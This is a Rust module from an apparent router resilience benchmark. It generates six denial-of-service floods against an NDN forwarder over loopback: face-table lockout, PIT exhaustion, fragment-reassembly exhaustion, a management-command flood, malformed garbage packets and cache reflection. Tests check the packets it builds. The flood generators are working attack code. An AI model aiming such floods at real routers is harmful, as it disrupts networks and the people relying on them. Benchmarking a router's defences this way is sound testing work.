//! The attacks: what each sends, from which loopback sources, at what rate, for how long.
//!
//! Every attack comes from addresses of its own in 127.0.0.0/8 (Linux accepts any of them as a
//! source on `lo`): attack *i* (0-based) from 127.(10 + *i*).*x*.*y*, so that the router's
//! per-host limits and the face list tell the attackers apart from the legitimate consumer
//! (127.0.0.1) and the probes (127.2.0.0/16). An attack sends at most `rate` packets per second
//! until its stop flag is set, and never more than `max_packets`.

use std::io;
use std::net::{Ipv4Addr, SocketAddr, SocketAddrV4, UdpSocket};
use std::sync::atomic::{AtomicBool, Ordering::Relaxed};
use std::time::{Duration, Instant};

use wire::nfd::ControlParameters;
use wire::tlv::{write_nni_tlv, write_tlv, write_var_number};
use wire::{tt, Name};

use super::legit::{BIG, PRODUCER_PREFIX, SINK_PREFIX};

/// Names under `/bench/big` the reflection attack asks for (primed in the CS first).
pub(super) const REFLECT_NAMES: u64 = 256;
/// FragCount of the reassembly attack's first fragments.
const FRAG_COUNT: u8 = 64;
/// Bytes of each of those fragments (one datagram under the router's default MTU).
const FRAG_BYTES: usize = 1200;
/// InterestLifetime the PIT attack asks for: an hour (the router caps it).
const PIT_LIFETIME_MS: u64 = 3_600_000;
/// Distinct management commands the management flood cycles through.
const MGMT_VARIANTS: usize = 1024;

/// One attack of the suite.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Attack {
    /// (a) Face-table lockout: well-formed Interests from 4,096 sources (512 hosts × 8 ports),
    /// each sending again every 4,096 packets, so that all of them stay active.
    Faces,
    /// (b) PIT exhaustion: one UDP face floods Interests for a prefix whose producer never
    /// answers, with an hour of InterestLifetime.
    Pit,
    /// (c) Reassembly: NDNLPv2 first fragments (FragIndex 0, FragCount 64, a new Sequence each)
    /// from 1,024 sources (256 hosts × 4 ports).
    Reassembly,
    /// (d) Management flood: signed `rib/register` command Interests to `/localhost/nfd` from
    /// one UDP (non-local) face.
    Mgmt,
    /// (e) Garbage: random bytes, Interests with a garbage body, LpPackets with a garbage
    /// fragment, and some well-formed Interests so that faces exist, from 1,024 sources.
    Garbage,
    /// (f) Reflection: Interests for Data the CS holds (8,000-byte content), from 1,024
    /// sources, none of which reads what comes back (as the victims of forged sources would
    /// not; the router's face counters measure what it sent them).
    Reflection,
}

impl Attack {
    /// Every attack, in the suite's order.
    pub const ALL: [Attack; 6] = [
        Attack::Faces,
        Attack::Pit,
        Attack::Reassembly,
        Attack::Mgmt,
        Attack::Garbage,
        Attack::Reflection,
    ];

    /// Its letter in the suite (a–f).
    pub fn letter(self) -> char {
        (b'a' + self.index() as u8) as char
    }

    fn index(self) -> usize {
        Attack::ALL.iter().position(|a| *a == self).unwrap_or(0)
    }

    /// Its name on the command line and in the output.
    pub fn name(self) -> &'static str {
        match self {
            Attack::Faces => "faces",
            Attack::Pit => "pit",
            Attack::Reassembly => "reassembly",
            Attack::Mgmt => "mgmt",
            Attack::Garbage => "garbage",
            Attack::Reflection => "reflection",
        }
    }

    /// One line saying what it sends.
    pub fn describe(self) -> &'static str {
        match self {
            Attack::Faces => {
                "face-table lockout: Interests from 4096 sources (512 hosts x 8 ports)"
            }
            Attack::Pit => "PIT exhaustion: unanswered Interests, 1 h lifetime, from one face",
            Attack::Reassembly => "reassembly: first fragments of 64, from 1024 sources",
            Attack::Mgmt => "management flood: rib/register from one non-local UDP face",
            Attack::Garbage => "garbage: random bytes and malformed TLV from 1024 sources",
            Attack::Reflection => "reflection: Interests hitting 8 KB CS entries, 1024 sources",
        }
    }

    /// The attack a command-line word names: its letter or its name.
    pub fn parse(s: &str) -> Result<Attack, String> {
        Attack::ALL
            .into_iter()
            .find(|a| s == a.name() || s.len() == 1 && s.starts_with(a.letter()))
            .ok_or_else(|| {
                format!("unknown attack {s:?}: expected a-f or faces, pit, reassembly, mgmt, garbage, reflection")
            })
    }

    /// The second octet of its source addresses.
    pub fn octet(self) -> u8 {
        10 + self.index() as u8
    }

    /// (hosts, ports per host) of its sources.
    fn sources(self) -> (u16, u16) {
        match self {
            Attack::Faces => (512, 8),
            Attack::Pit | Attack::Mgmt => (1, 1),
            Attack::Reassembly | Attack::Garbage | Attack::Reflection => (256, 4),
        }
    }
}

/// What one attack sent.
#[derive(Debug, Default, Clone, Copy)]
pub(super) struct FloodStats {
    /// Datagrams sent.
    pub(super) packets: u64,
    /// Bytes sent.
    pub(super) bytes: u64,
    /// Datagrams the kernel refused to send (full socket buffer, ICMP errors).
    pub(super) send_errors: u64,
    /// Seconds it ran.
    pub(super) seconds: f64,
    /// Sources it used.
    pub(super) sources: u64,
}

/// The sockets `attack` sends from (bound before the attacked phase starts, so that the phase
/// measures the flood, not thousands of binds on a loaded machine).
pub(super) fn bind_sources(attack: Attack) -> io::Result<Vec<UdpSocket>> {
    let (hosts, ports) = attack.sources();
    sources(attack.octet(), hosts, ports)
}

/// Sends `attack` from `socks` ([`bind_sources`]) at `router` at most `rate` packets per
/// second, at most `max_packets`, until `stop` is set.
pub(super) fn run(
    attack: Attack,
    socks: &[UdpSocket],
    router: SocketAddr,
    rate: u64,
    max_packets: u64,
    stop: &AtomicBool,
) -> FloodStats {
    let mut gen = Generator::new(attack);
    let mut st = FloodStats {
        sources: socks.len() as u64,
        ..FloodStats::default()
    };
    let mut pkt = Vec::with_capacity(9000);
    let t0 = Instant::now();
    let mut k: u64 = 0;
    while !stop.load(Relaxed) && k < max_packets {
        let due = (t0.elapsed().as_secs_f64() * rate as f64) as u64;
        if k >= due {
            std::thread::sleep(Duration::from_micros(200));
            continue;
        }
        // At most a millisecond's worth at once, so that the stop flag is seen.
        let burst = (due - k).min(rate / 1000 + 1).min(max_packets - k);
        for _ in 0..burst {
            let s = &socks[(k % socks.len() as u64) as usize];
            gen.packet(k, &mut pkt);
            match s.send_to(&pkt, router) {
                Ok(n) => {
                    st.packets += 1;
                    st.bytes += n as u64;
                }
                Err(_) => st.send_errors += 1,
            }
            k += 1;
        }
    }
    st.seconds = t0.elapsed().as_secs_f64();
    st
}

/// `hosts × ports` non-blocking UDP sockets on 127.`octet`.*x*.*y* (host *h* = *x*·256 + *y*,
/// from 1), each on a port of the kernel's choosing.
fn sources(octet: u8, hosts: u16, ports: u16) -> io::Result<Vec<UdpSocket>> {
    let mut out = Vec::with_capacity(usize::from(hosts) * usize::from(ports));
    for h in 1..=hosts {
        let ip = Ipv4Addr::new(127, octet, (h >> 8) as u8, h as u8);
        for _ in 0..ports {
            let s = UdpSocket::bind(SocketAddrV4::new(ip, 0))?;
            s.set_nonblocking(true)?;
            out.push(s);
        }
    }
    Ok(out)
}

/// Writes the packets of one attack, reusing its buffers.
struct Generator {
    attack: Attack,
    /// The Name's components before the last (TLVs).
    prefix: Vec<u8>,
    name: Vec<u8>,
    body: Vec<u8>,
    rng: u64,
    /// Prebuilt packets (the management commands).
    prebuilt: Vec<Vec<u8>>,
}

impl Generator {
    fn new(attack: Attack) -> Generator {
        let prefix_uri = match attack {
            Attack::Pit => SINK_PREFIX.to_string(),
            Attack::Reflection => format!("{PRODUCER_PREFIX}/{BIG}"),
            _ => format!("/attack/{}", attack.name()),
        };
        let mut prefix = Vec::new();
        for c in &Name::from_uri(&prefix_uri).unwrap_or_default().components {
            c.encode(&mut prefix);
        }
        let seed = std::process::id() as u64 ^ 0x9e37_79b9_7f4a_7c15;
        let prebuilt = if attack == Attack::Mgmt {
            mgmt_commands(MGMT_VARIANTS)
        } else {
            Vec::new()
        };
        Generator {
            attack,
            prefix,
            name: Vec::with_capacity(128),
            body: Vec::with_capacity(256),
            rng: seed | 1,
            prebuilt,
        }
    }

    fn next_random(&mut self) -> u64 {
        // xorshift64*
        self.rng ^= self.rng >> 12;
        self.rng ^= self.rng << 25;
        self.rng ^= self.rng >> 27;
        self.rng.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }

    fn fill_random(&mut self, out: &mut Vec<u8>, n: usize) {
        while out.len() < n {
            let r = self.next_random().to_le_bytes();
            let take = (n - out.len()).min(8);
            out.extend_from_slice(&r[..take]);
        }
    }

    /// Writes an Interest for `<prefix>/<seq=n>` into `out`.
    fn interest(&mut self, out: &mut Vec<u8>, n: u64, lifetime_ms: u64) {
        self.name.clear();
        self.name.extend_from_slice(&self.prefix);
        write_nni_tlv(&mut self.name, tt::SEQUENCE_NUM, n);
        self.body.clear();
        write_tlv(&mut self.body, tt::NAME, &self.name);
        let nonce = self.next_random() as u32;
        write_tlv(&mut self.body, tt::NONCE, &nonce.to_be_bytes());
        write_nni_tlv(&mut self.body, tt::INTEREST_LIFETIME, lifetime_ms);
        out.clear();
        write_tlv(out, tt::INTEREST, &self.body);
    }

    /// Writes packet number `k` of the attack into `out`.
    fn packet(&mut self, k: u64, out: &mut Vec<u8>) {
        match self.attack {
            Attack::Faces => self.interest(out, k, 1000),
            Attack::Pit => self.interest(out, k, PIT_LIFETIME_MS),
            Attack::Reflection => self.interest(out, k % REFLECT_NAMES, 4000),
            Attack::Mgmt => {
                out.clear();
                out.extend_from_slice(&self.prebuilt[k as usize % self.prebuilt.len()]);
            }
            Attack::Reassembly => {
                // A plausible start of a large Interest, then filler.
                self.body.clear();
                self.body.extend_from_slice(&[0x05, 0xfd, 0x4b, 0x00]);
                self.body.resize(FRAG_BYTES, 0xa5);
                self.name.clear();
                write_tlv(&mut self.name, tt::LP_SEQUENCE, &k.to_be_bytes());
                write_nni_tlv(&mut self.name, tt::LP_FRAG_INDEX, 0);
                write_nni_tlv(&mut self.name, tt::LP_FRAG_COUNT, u64::from(FRAG_COUNT));
                write_tlv(&mut self.name, tt::LP_FRAGMENT, &self.body);
                out.clear();
                write_tlv(out, tt::LP_PACKET, &self.name);
            }
            Attack::Garbage => self.garbage(out, k),
        }
    }

    fn garbage(&mut self, out: &mut Vec<u8>, k: u64) {
        let len = 1 + (self.next_random() % 1400) as usize;
        match k % 4 {
            // Random bytes.
            0 => {
                out.clear();
                self.fill_random(out, len);
            }
            // An Interest whose body is garbage.
            1 => {
                self.body.clear();
                let mut b = std::mem::take(&mut self.body);
                self.fill_random(&mut b, len);
                out.clear();
                write_tlv(out, tt::INTEREST, &b);
                self.body = b;
            }
            // A well-formed Interest, so that the sources have faces.
            2 => self.interest(out, k, 1000),
            // An LpPacket whose fragment is garbage.
            _ => {
                self.body.clear();
                let mut b = std::mem::take(&mut self.body);
                self.fill_random(&mut b, len);
                self.name.clear();
                write_tlv(&mut self.name, tt::LP_FRAGMENT, &b);
                out.clear();
                write_var_number(out, u64::from(tt::LP_PACKET));
                write_var_number(out, self.name.len() as u64);
                out.extend_from_slice(&self.name);
                self.body = b;
            }
        }
    }
}

/// `n` signed `rib/register` command Interests for `/attack/mgmt/<i>`, each with its own
/// nonces, as a management client would send them.
fn mgmt_commands(n: usize) -> Vec<Vec<u8>> {
    let base = Name::from_uri("/attack/mgmt").unwrap_or_default();
    let now_ms = client::unix_time_ms();
    (0..n)
        .map(|i| {
            let params = ControlParameters {
                name: Some(
                    base.clone()
                        .with(wire::Component::number(tt::SEQUENCE_NUM as u16, i as u64)),
                ),
                ..client::control::register_params(&base)
            };
            let mut sig_nonce = [0u8; 8];
            sig_nonce[..8].copy_from_slice(&(i as u64).to_be_bytes());
            let nonce = (i as u32).wrapping_mul(2_654_435_761).to_be_bytes();
            client::control::command_interest(
                "rib",
                "register",
                &params,
                now_ms + i as u64,
                sig_nonce,
                nonce,
            )
            .to_wire()
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use wire::{Limits, LpPacketView, PacketView};

    #[test]
    fn attacks_parse_by_letter_and_name_and_have_distinct_sources() {
        for (i, a) in Attack::ALL.into_iter().enumerate() {
            assert_eq!(Attack::parse(a.name()), Ok(a));
            assert_eq!(Attack::parse(&a.letter().to_string()), Ok(a));
            assert_eq!(a.octet(), 10 + i as u8);
        }
        assert_eq!(Attack::Faces.letter(), 'a');
        assert_eq!(Attack::Reflection.letter(), 'f');
        assert!(Attack::parse("g").is_err());
        assert!(Attack::parse("fa").is_err());
    }

    #[test]
    fn each_attack_writes_what_it_says() {
        let lim = Limits::default();
        for a in Attack::ALL {
            let mut g = Generator::new(a);
            let mut out = Vec::new();
            for k in 0..8u64 {
                g.packet(k, &mut out);
                assert!(!out.is_empty() && out.len() <= 1452, "{a:?} {}", out.len());
                let decoded = PacketView::decode(&out, &lim);
                match a {
                    Attack::Faces | Attack::Pit | Attack::Reflection | Attack::Mgmt => {
                        let Ok(PacketView::Interest(i)) = decoded else {
                            panic!("{a:?}: not an Interest: {decoded:?}")
                        };
                        let uri = i.name().to_string();
                        let want = match a {
                            Attack::Pit => "/sink/",
                            Attack::Reflection => "/bench/big/",
                            Attack::Mgmt => "/localhost/nfd/rib/register/",
                            _ => "/attack/faces/",
                        };
                        assert!(uri.starts_with(want), "{a:?}: {uri}");
                    }
                    Attack::Reassembly => {
                        let lp = LpPacketView::decode(&out, &lim).unwrap();
                        assert!(lp.is_fragmented());
                        assert_eq!(lp.fragment().unwrap().len(), FRAG_BYTES);
                    }
                    Attack::Garbage => {
                        if k % 4 == 2 {
                            assert!(decoded.is_ok());
                        }
                    }
                }
            }
        }
        // The management commands differ from one another.
        let m = mgmt_commands(4);
        assert!(m.windows(2).all(|w| w[0] != w[1]));
    }

    #[test]
    fn sources_bind_many_loopback_addresses() {
        let s = sources(250, 3, 2).unwrap();
        assert_eq!(s.len(), 6);
        let addrs: Vec<_> = s.iter().map(|s| s.local_addr().unwrap()).collect();
        assert_eq!(addrs[0].ip().to_string(), "127.250.0.1");
        assert_eq!(addrs[5].ip().to_string(), "127.250.0.3");
        assert_ne!(addrs[0], addrs[1]);
    }
}
